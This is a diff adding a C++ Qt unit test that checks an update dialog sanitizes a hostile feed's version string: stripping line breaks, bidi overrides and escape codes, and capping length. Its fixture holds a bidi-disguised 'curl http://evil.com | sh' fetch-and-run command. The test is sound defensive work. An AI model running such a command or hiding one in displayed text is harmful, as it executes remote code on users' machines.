@@ -134,6 +134,36 @@ TEST_F(DialogTest, OtherOutcomesSaySoInPlainText) {
   box->close();
 }
 
+// A hostile feed's version: a line break to start a fake paragraph, a
+// right-to-left override to disguise it, and enough text to fill the screen.
+TEST_F(DialogTest, FeedTextIsShownOnOneLineWithoutBidiControlsAndCapped) {
+  auto r = available();
+  r.item.shortVersionString = "1.5\n\nURGENT: run \u202Ehs | moc.live//:ptth lruc\u202C\u2066x\u2069\u200F\u061C\t"
+                              "\u2028" + std::string(500, 'A');
+  r.item.version = "5\r\x1b[31m";
+  driver.showResult(r, [] {});
+  QMessageBox* box = driver.currentDialog();
+  ASSERT_TRUE(box);
+  app().processEvents();
+  box->grab().save(QString::fromStdString((testing::artifactsDir() / "update-hostile-version.png").string()));
+
+  const QString info = box->informativeText();
+  const QString shown = info.section(QStringLiteral(" is available;"), 0, 0);
+  EXPECT_TRUE(shown.startsWith("Duskwarden 1.5  URGENT: run ")) << shown.toStdString();
+  for (char16_t bad : {u'\n', u'\r', u'\t', u'\x1b', u'\u202E', u'\u202C', u'\u2066', u'\u2069', u'\u200F',
+                       u'\u061C', u'\u2028'})
+    EXPECT_FALSE(shown.contains(QChar(bad))) << "U+" << std::hex << static_cast<int>(bad);
+  EXPECT_TRUE(shown.contains(QChar(QChar::ReplacementCharacter)));
+  EXPECT_TRUE(shown.endsWith(QChar(0x2026)));
+  EXPECT_LE(shown.size(), QStringLiteral("Duskwarden ").size() + 64 + 1);
+  // Our own layout keeps its paragraph break before the release notes.
+  EXPECT_TRUE(info.contains("\n\nRelease notes: https://example.org/duskwarden/notes-1.5.html"));
+
+  EXPECT_EQ(displayText("2.0 (7)", 64), "2.0 (7)");
+  EXPECT_EQ(displayText("\xF0\x9F\x8C\x99\xF0\x9F\x8C\x99", 3), QString::fromUtf8("\xF0\x9F\x8C\x99\xE2\x80\xA6"))
+      << "a cut never splits a character";
+}
+
 TEST_F(DialogTest, ClosingTheCheckingBoxCancelsButTheResultReplacesItQuietly) {
   int cancels = 0;
   driver.showChecking([&] { ++cancels; });
